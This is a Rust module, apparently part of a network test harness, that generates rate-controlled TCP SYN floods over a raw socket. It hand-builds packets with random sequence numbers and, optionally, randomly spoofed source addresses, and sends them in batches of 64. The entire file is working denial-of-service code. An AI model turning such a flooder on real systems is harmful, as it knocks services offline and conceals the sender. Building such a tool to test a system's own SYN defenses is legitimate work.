//! SYNs as fast as one sender makes them, at a rate that is asked for: each with numbers of its own, in packets of its own
//! making, many to a system call.

use std::io::IoSlice;
use std::net::{Ipv4Addr, SocketAddrV4};
use std::os::fd::AsRawFd as _;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};
use std::thread::{self, JoinHandle};
use std::time::{Duration, Instant};

use nix::sys::socket::{
    AddressFamily, MsgFlags, MultiHeaders, SockFlag, SockProtocol, SockType, SockaddrIn, sendmmsg,
    setsockopt, socket, sockopt,
};

use crate::net::Host;

/// How many leave at once.
const BURST: usize = 64;
const LENGTH: usize = 40;

/// What the SYNs say.
#[derive(Clone, Copy, Debug)]
pub(crate) struct Aim {
    /// None: another one each time.
    pub(crate) source: Option<Ipv4Addr>,
    pub(crate) destination: SocketAddrV4,
}

/// Runs until it is stopped.
pub(crate) struct Torrent {
    over: Arc<AtomicBool>,
    thread: JoinHandle<u64>,
    began: Instant,
}

impl Torrent {
    /// Begins to send from `host`, `a_second` SYNs a second or as many as it can.
    pub(crate) fn start(host: &Host, aim: Aim, a_second: u32) -> Self {
        let raw = host.inside(|| {
            let flags = SockFlag::SOCK_CLOEXEC;
            socket(AddressFamily::Inet, SockType::Raw, flags, SockProtocol::Raw).unwrap()
        });
        setsockopt(&raw, sockopt::SndBuf, &(4 << 20)).unwrap();
        let over = Arc::new(AtomicBool::new(false));
        let told = Arc::clone(&over);
        let began = Instant::now();
        let thread = thread::spawn(move || {
            let to = SockaddrIn::from(SocketAddrV4::new(*aim.destination.ip(), 0));
            let mut headers = MultiHeaders::<SockaddrIn>::preallocate(BURST, None);
            let (mut random, mut sent) = (0x2545_f491_4f6c_dd1d_u64, 0_u64);
            while !told.load(Ordering::Relaxed) {
                let packets: Vec<_> = (0..BURST).map(|_| packet(aim, &mut random)).collect();
                let slices: Vec<_> = packets.iter().map(|packet| [IoSlice::new(packet)]).collect();
                let to = [Some(to); BURST];
                // A full queue is part of a flood.
                let done =
                    sendmmsg(raw.as_raw_fd(), &mut headers, &slices, to, [], MsgFlags::empty());
                sent += done.map_or(0, |done| done.count() as u64);
                let due = Duration::from_secs_f64(sent as f64 / f64::from(a_second));
                thread::sleep(due.saturating_sub(began.elapsed()));
            }
            sent
        });
        Self { over, thread, began }
    }

    /// Ends it; how many were sent, and how many that was a second.
    pub(crate) fn stop(self) -> (u64, f64) {
        self.over.store(true, Ordering::Relaxed);
        let sent = self.thread.join().unwrap();
        (sent, sent as f64 / self.began.elapsed().as_secs_f64())
    }
}

/// An IPv4 packet with a bare SYN that has random numbers everywhere, acknowledgement number included, as knocks have.
fn packet(aim: Aim, random: &mut u64) -> [u8; LENGTH] {
    let [first, second] = [next(random), next(random)].map(u64::to_be_bytes);
    let anybody = Ipv4Addr::new(11 + second[0] % 64, second[1], second[2], 1 + second[3] % 254);
    let source = aim.source.unwrap_or(anybody).octets();
    let destination = aim.destination.ip().octets();
    let [high, low] = aim.destination.port().to_be_bytes();
    let mut packet = [0; LENGTH];
    // The kernel fills in the identification and the checksum of the IP header.
    packet[..10].copy_from_slice(&[0x45, 0, 0, 40, 0, 0, 0, 0, 64, 6]);
    packet[12..16].copy_from_slice(&source);
    packet[16..20].copy_from_slice(&destination);
    packet[20..24].copy_from_slice(&[second[4] | 4, second[5], high, low]);
    packet[24..32].copy_from_slice(&first);
    packet[32..36].copy_from_slice(&[0x50, 2, second[6], second[7]]);
    let words =
        packet[12..].chunks(2).map(|pair| u32::from(u16::from_be_bytes([pair[0], pair[1]])));
    let mut sum = words.sum::<u32>() + 6 + 20;
    while sum > 0xffff {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    let checksum = !u16::try_from(sum).unwrap();
    packet[36..38].copy_from_slice(&checksum.to_be_bytes());
    packet
}

/// xorshift.
fn next(random: &mut u64) -> u64 {
    *random ^= *random << 13;
    *random ^= *random >> 7;
    *random ^= *random << 17;
    *random
}
